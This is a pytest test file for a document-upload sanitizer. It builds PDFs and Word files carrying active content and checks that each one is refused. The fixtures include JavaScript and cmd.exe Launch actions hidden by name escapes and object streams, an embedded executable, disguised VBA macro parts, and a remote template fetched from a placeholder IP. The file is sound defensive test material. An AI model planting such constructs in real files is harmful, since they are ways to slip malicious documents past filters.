"""Active content in evidence files, found as a reader finds it (issue 29): a PDF's names with
#xx escapes, objects inside compressed object streams, JavaScript in the document's Names
tree; an Office file's macros by content type and by content, and remote templates. Each
case is one a byte filter let through; each is refused in words and nothing is stored."""
import io
import zipfile

import pikepdf
import pytest

from app.core.errors import Refused
from app.evidence import content
from tests.factories import PDF, docx_bytes, files_of, own_milestone, send

LIMITS = dict(max_side=1600, max_pixels=40_000_000, max_bytes=10 * 1024 * 1024,
              too_big="quá lớn")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _in_catalog(entries: bytes) -> bytes:
    """The one-page PDF with `entries` added to its catalog (a reader rebuilds the moved
    cross-references, as it does for any PDF edited by hand)."""
    return PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + entries)


def _saved(pdf: pikepdf.Pdf) -> bytes:
    """Written as modern writers do: objects packed into compressed object streams, so no
    name of any object appears in the file's bytes."""
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _javascript_in_object_stream() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    return _saved(pdf)


def _javascript_in_names_tree() -> bytes:
    action = pikepdf.Dictionary({"/S": pikepdf.Name("/JavaScript"),
                                 "/JS": pikepdf.String("app.alert(1)")})
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.Names = pdf.make_indirect(pikepdf.Dictionary(JavaScript=pdf.make_indirect(
        pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("mo"),
                                                pdf.make_indirect(action)])))))
    return _saved(pdf)


def _docx_with(parts: dict[str, bytes], content_types: bytes = b"") -> bytes:
    """A .docx with extra parts, and extra lines in its [Content_Types].xml."""
    src, out = zipfile.ZipFile(io.BytesIO(docx_bytes())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", content_types + b"</Types>")
            zf.writestr(info, data)
        for name, data in parts.items():
            zf.writestr(name, data)
    return out.getvalue()


REMOTE_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://192.0.2.1/mau.dotm" '
    b'TargetMode="External"/></Relationships>')

ACTIVE = {
    "escaped JavaScript action": (
        lambda: _in_catalog(b"/OpenAction<</S /J#61vaScript /J#53 (app.alert\\(1\\))>>"),
        content.ACTIVE_PDF),
    "escaped Launch action": (
        lambda: _in_catalog(b"/OpenAction<</S /L#61unch /F (cmd.exe)>>"), content.ACTIVE_PDF),
    "escaped embedded file": (
        lambda: _in_catalog(b"/Names<</Embedded#46iles<</Names[(a.exe)<</Type/Filespec>>]>>>>"),
        content.ACTIVE_PDF),
    "JavaScript in a compressed object stream": (_javascript_in_object_stream,
                                                 content.ACTIVE_PDF),
    "JavaScript in the Names tree": (_javascript_in_names_tree, content.ACTIVE_PDF),
    "macro part renamed, macro content type": (
        lambda: _docx_with({"word/vbaData.bin": OLE}, b'<Override PartName="/word/vbaData.bin" '
                           b'ContentType="application/vnd.ms-office.vbaProject"/>'),
        content.MACROS),
    "macro-enabled main part": (
        lambda: _docx_with({}, b'<Override PartName="/word/document.xml" ContentType='
                           b'"application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        content.MACROS),
    "OLE program under an innocent name": (
        lambda: _docx_with({"word/media/image9.png": OLE}), content.EMBEDDED),
    "remote template": (
        lambda: _docx_with({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}), content.REMOTE),
}


@pytest.mark.parametrize("name", sorted(ACTIVE))
def test_active_content_is_found_as_a_reader_parses_it(name):
    make, message = ACTIVE[name]
    with pytest.raises(Refused) as refused:
        content.clean(make(), **LIMITS)
    assert refused.value.status == 400
    assert refused.value.message is message


def test_plain_files_written_by_modern_tools_pass():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.Names = pdf.make_indirect(pikepdf.Dictionary())  # a Names tree, nothing in it
    assert content.clean(_saved(pdf), **LIMITS).kind == "pdf"
    assert content.clean(PDF, **LIMITS).kind == "pdf"
    plain_link = REMOTE_TEMPLATE.replace(b"attachedTemplate", b"hyperlink")
    assert content.clean(_docx_with({"word/_rels/x.xml.rels": plain_link}), **LIMITS).kind \
        == "docx"


def test_a_pdf_with_javascript_sent_to_a_milestone_is_refused_in_words_and_not_stored(
        app, login):
    c = login("ban01")
    mid = own_milestone(app)
    r = send(c, f"/milestones/{mid}/files", _javascript_in_names_tree(), "bien-ban.pdf")
    assert r.status_code == 400
    assert "mã chạy tự động" in r.get_data(as_text=True)
    assert files_of(app, mid) == []
